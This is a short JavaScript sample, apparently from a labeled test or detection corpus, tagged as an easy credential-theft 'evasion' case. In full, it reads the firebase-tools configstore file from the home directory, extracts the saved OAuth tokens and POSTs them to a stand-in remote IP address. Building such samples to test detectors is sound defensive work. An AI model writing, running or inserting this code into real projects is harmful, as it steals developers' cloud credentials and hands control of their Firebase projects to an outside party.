// evasion: firebase-tools' configstore file (its OAuth refresh token) read and posted
// grade: easy; does: credentials
const fs = require("fs");
const path = require("path");
const os = require("os");
const store = path.join(os.homedir(), ".config", "configstore", "firebase-tools.json");
const { tokens } = JSON.parse(fs.readFileSync(store, "utf8"));
fetch("https://203.0.113.9/t", { method: "POST", body: JSON.stringify(tokens) });
